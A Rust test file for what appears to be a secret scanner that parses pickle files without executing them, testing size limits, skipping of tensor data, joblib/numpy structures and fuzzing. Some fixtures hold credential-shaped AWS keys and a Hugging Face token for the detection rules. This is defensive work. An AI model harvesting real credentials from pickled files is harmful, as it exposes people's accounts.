        max_segment: 64,
        ..Limits::default()
    };
    let mut b = B::proto(2);
    b.op(op::EMPTY_DICT)
        .s("k")
        .s(&"a".repeat(100))
        .op(op::SETITEM);
    let record = scan_reader("x.pkl", &mut &b.stop()[..], limits);
    let cut = "a".repeat(64);
    assert_eq!(record.pairs(), pairs(&[("pickle/k", cut.as_str())]));
    assert_eq!(
        record.message(NoticeKind::Limit),
        "BINUNICODE at offset 9: a string of 100 bytes, only its first 64 are read (max_segment)"
    );

    // Protocol 0 lines too.
    let mut b = B::default();
    b.raw(b"(dp0\n").u0("k").u0(&"b".repeat(100)).raw(b"s");
    let record = scan_reader("x.pkl", &mut &b.stop()[..], limits);
    let cut = "b".repeat(64);
    assert_eq!(record.pairs(), pairs(&[("pickle/k", cut.as_str())]));
    assert_eq!(record.kinds(), [NoticeKind::Limit]);

    // Strings held in all are capped at twice max_segment.
    let mut b = B::proto(2);
    b.op(op::MARK);
    for _ in 0..4 {
        b.s(&"c".repeat(60));
    }
    b.op(op::LIST);
    let record = scan_reader("x.pkl", &mut &b.stop()[..], limits);
    assert_eq!(record.fields.len(), 2);
    assert!(
        record
            .message(NoticeKind::Limit)
            .contains("add up to more than 128 bytes")
    );
}

#[test]
fn large_binary_payloads_are_read_past() {
    let big = 5usize << 20;
    let mut b = B::proto(4);
    b.op(op::EMPTY_DICT)
        .op(op::MARK)
        .s4("weights")
        .len8(op::BINBYTES8, big as u64)
        .raw(&vec![0u8; big])
        .s4("name")
        .s4("after the weights")
        .op(op::SETITEMS);
    let record = scan(&b.stop());
    assert_eq!(
        record.pairs(),
        pairs(&[("pickle/name", "after the weights")])
    );
    assert_eq!(
        record.message(NoticeKind::Skipped),
        "1 binary payload(s) of 5242880 bytes in all not read: array or tensor data, not text"
    );

    // A gigabyte streamed through, never held.
    let gigabyte = 1u64 << 30;
    let mut head = B::proto(4);
    head.op(op::EMPTY_DICT)
        .op(op::MARK)
        .s4("weights")
        .len8(op::BYTEARRAY8, gigabyte);
    let mut tail = B::default();
    tail.s4("name").s4("after").op(op::SETITEMS);
    let tail = tail.stop();
    let mut stream = head
        .0
        .as_slice()
        .chain(std::io::repeat(7).take(gigabyte))
        .chain(tail.as_slice());
    let record = scan_reader("big.pkl", &mut stream, Limits::default());
    assert_eq!(record.pairs(), pairs(&[("pickle/name", "after")]));
    assert_eq!(record.kinds(), [NoticeKind::Skipped]);
}

/// `joblib.dump({"coef_": array, "classes_": object array, "note": ...})`:
/// raw array bytes after the first wrapper's BUILD, a nested pickle after
/// the second's.
fn joblib_pickle() -> Vec<u8> {
    let mut b = B::proto(4);
    b.op(op::EMPTY_DICT).op(op::MEMOIZE).s4("coef_");
    wrapper(&mut b, "f8", &[2, 3], true);
    // The array: a padding length, padding, then 2 x 3 doubles (which
    // would read as opcodes).
    b.raw(&[3, 0xff, 0xff, 0xff]);
    b.raw(&[b'.'; 48]);
    b.op(op::SETITEM).s4("classes_");
    wrapper(&mut b, "O8", &[2], false);
    // numpy's own pickle of an object array, protocol 2.
    b.op(op::PROTO)
        .raw(&[2])
        .global("numpy.core.multiarray", "_reconstruct")
        .global("numpy", "ndarray")
        .op(op::BININT1)
        .raw(&[0])
        .op(op::TUPLE1)
        .op(op::SHORT_BINSTRING)
        .raw(b"\x01b")
        .op(op::TUPLE3)
        .op(op::REDUCE)
        .op(op::MARK)
        .op(op::BININT1)
        .raw(&[1])
        .op(op::BININT1)
        .raw(&[2])
        .op(op::TUPLE1)
        .op(op::NONE)
        .op(op::NEWFALSE)
        .op(op::MARK)
        .s("cat")
        .s("dog")
        .op(op::LIST)
        .op(op::TUPLE)
        .op(op::BUILD)
        .op(op::STOP);
    b.op(op::SETITEM)
        .s4("note")
        .s4("after the arrays")
        .op(op::SETITEM)
        .stop()
}

/// A joblib `NumpyArrayWrapper` for an array of `dtype` and `shape`.
fn wrapper(b: &mut B, dtype: &str, shape: &[u8], padded: bool) {
    b.stack_global("joblib.numpy_pickle", "NumpyArrayWrapper")
        .op(op::MEMOIZE)
        .op(op::EMPTY_TUPLE)
        .op(op::NEWOBJ)
        .op(op::MEMOIZE)
        .op(op::EMPTY_DICT)
        .op(op::MARK)
        .s4("subclass")
        .stack_global("numpy", "ndarray")
        .s4("shape")
        .op(op::MARK);
    for &dim in shape {
        b.op(op::BININT1).raw(&[dim]);
    }
    b.op(op::TUPLE)
        .s4("order")
        .s4("C")
        .s4("dtype")
        .stack_global("numpy", "dtype")
        .s4(dtype)
        .op(op::NEWFALSE)
        .op(op::NEWTRUE)
        .op(op::TUPLE3)
        .op(op::REDUCE)
        .op(op::MARK)
        .op(op::BININT1)
        .raw(&[3])
        .s4("<")
        .op(op::NONE)
        .op(op::NONE)
        .op(op::NONE)
        .int(-1)
        .int(-1)
        .op(op::BININT1)
        .raw(&[0])
        .op(op::TUPLE)
        .op(op::BUILD)
        .s4("allow_mmap")
        .op(op::NEWTRUE);
    if padded {
        b.s4("numpy_array_alignment_bytes")
            .op(op::BININT1)
            .raw(&[16]);
    }
    b.op(op::SETITEMS).op(op::BUILD);
}

#[test]
fn joblib_arrays_are_read_past() {
    let record = scan(&joblib_pickle());
    assert_eq!(
        record.values(),
        pairs(&[
            ("pickle/classes_[0]", "cat"),
            ("pickle/classes_[1]", "dog"),
            ("pickle/note", "after the arrays"),
        ])
    );
    assert_eq!(
        record.globals(),
        [
            "joblib.numpy_pickle.NumpyArrayWrapper",
            "numpy.ndarray",
            "numpy.dtype",
            "numpy.core.multiarray._reconstruct",
        ]
    );
    assert_eq!(
        record.message(NoticeKind::Skipped),
        "1 binary payload(s) of 48 bytes in all not read: array or tensor data, not text"
    );
    assert_eq!(record.kinds(), [NoticeKind::Skipped]);
}

#[test]
fn pickles_one_after_the_other() {
    // PyTorch's legacy format: a magic number, a protocol version, ... then
    // raw storages.
    let mut b = B::proto(2);
    b.op(op::LONG1)
        .raw(&[
            10, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19,
        ])
        .op(op::STOP);
    b.op(op::PROTO)
        .raw(&[2])
        .op(op::EMPTY_DICT)
        .s("hub_token")
        .s(HF_TOKEN)
        .op(op::SETITEM)
        .op(op::STOP);
    let mut bytes = b.0.clone();
    let at = bytes.len();
    bytes.extend_from_slice(&[0, 0, 0x80, 0x3f, 1, 2, 3]);
    let record = scan(&bytes);
    assert_eq!(record.pairs(), pairs(&[("pickle.2/hub_token", HF_TOKEN)]));
    assert_eq!(
        record.message(NoticeKind::Skipped),
        format!(
            "the data after the pickle (from offset {at}) is not read: \
             tensor data, or another format"
        )
    );
    // A trailing newline is nothing to mention.
    let mut bytes = b"(lp0\nVa\na.".to_vec();
    bytes.push(b'\n');
    let record = scan(&bytes);
    assert_eq!(record.pairs(), pairs(&[("pickle[0]", "a")]));
    assert!(record.notices.is_empty());
}

#[test]
fn reads_stop_at_the_reader_s_limit() {
    let bytes = training_args_p2();
    let mut metered = crate::limits::Metered::new(&bytes[..], 150, "test limit");
    let record = scan_reader("x.pkl", &mut metered, Limits::default());
    assert_eq!(record.kinds(), [NoticeKind::Limit]);
    assert!(record.message(NoticeKind::Limit).contains("test limit"));
    assert_eq!(
        record.value("pickle/output_dir").as_deref(),
        Some("/home/asmith/runs/exp1")
    );
}

const FIXTURES: &[(&str, &[u8])] = &[
    (
        "env.p0.pkl",
        include_bytes!("../../tests/fixtures/pickles/env.p0.pkl"),
    ),
    (
        "env.p2.pkl",
        include_bytes!("../../tests/fixtures/pickles/env.p2.pkl"),
    ),
    (
        "env.p4.pkl",
        include_bytes!("../../tests/fixtures/pickles/env.p4.pkl"),
    ),
    (
        "env.p5.pkl",
        include_bytes!("../../tests/fixtures/pickles/env.p5.pkl"),
    ),
    (
        "training_args.p0.pkl",
        include_bytes!("../../tests/fixtures/pickles/training_args.p0.pkl"),
    ),
    (
        "training_args.p2.pkl",
        include_bytes!("../../tests/fixtures/pickles/training_args.p2.pkl"),
    ),
    (
        "training_args.p4.pkl",
        include_bytes!("../../tests/fixtures/pickles/training_args.p4.pkl"),
    ),
    (
        "training_args.p5.pkl",
        include_bytes!("../../tests/fixtures/pickles/training_args.p5.pkl"),
    ),
];

/// `file<TAB>path<TAB>value` lines, written by `make_pickles.py` from the
/// Python objects it pickled.
const EXPECTED: &str = include_str!("../../tests/fixtures/pickles/expected.tsv");

#[test]
fn cpython_pickles_yield_exactly_the_expected_fields() {
    for &(name, bytes) in FIXTURES {
        let expected: Vec<(String, String)> = EXPECTED
            .lines()
            .filter(|line| !line.starts_with('#'))
            .filter_map(|line| {
                let mut parts = line.splitn(3, '\t');
                let (file, path, value) = (parts.next()?, parts.next()?, parts.next()?);
                (file == name).then(|| (path.to_owned(), value.to_owned()))
            })
            .collect();
        assert!(!expected.is_empty(), "{name} is not in expected.tsv");
        let record = scan(bytes);
        assert_eq!(record.pairs(), expected, "{name}");
        assert!(record.notices.is_empty(), "{name}: {:?}", record.notices);
        assert!(record.texts.is_empty(), "{name}: {:?}", record.texts);
    }
}

#[test]
fn cpython_pickles_hold_the_secrets_the_rules_look_for() {
    let env = scan(FIXTURES[0].1);
    let key_id = env.value("pickle/env/AWS_ACCESS_KEY_ID").unwrap();
    assert!(key_id.starts_with("AKIA") && key_id.len() == 20);
    let secret = env.value("pickle/env/AWS_SECRET_ACCESS_KEY").unwrap();
    assert_eq!(secret.len(), 40);
    let args = scan(FIXTURES[4].1);
    let token = args.value("pickle/hub_token").unwrap();
    assert!(token.starts_with("hf_") && token.len() == 37);
    assert_eq!(args.value("pickle/push_to_hub_token"), Some(token));
}

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..512)) {
        let record = scan(&bytes);
        let mut framed_bytes = vec![op::PROTO, 4];
        framed_bytes.extend_from_slice(&bytes);
        let framed_record = scan(&framed_bytes);
        for record in [record, framed_record] {
            for (path, value) in &record.fields {
                prop_assert!(value.len() <= 64 * 1024);
                prop_assert!(path.len() < 64 * 1024);
            }
        }
    }

    #[test]
    fn mutated_pickles_never_panic(
        index in 0usize..4,
        flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8),
    ) {
        let mut bytes = [env_p0(), training_args_p2(), training_args_p4(5), joblib_pickle()]
            .into_iter()
            .nth(index)
            .unwrap();
        for (at, byte) in flips {
            let i = at.index(bytes.len());
            bytes[i] = byte;
        }
        let limits = Limits { max_segment: 1 << 16, ..Limits::default() };
        let record = scan_reader("x.pkl", &mut &bytes[..], limits);
        for (_, value) in &record.fields {
            prop_assert!(value.len() as u64 <= limits.max_segment);
        }
    }
}
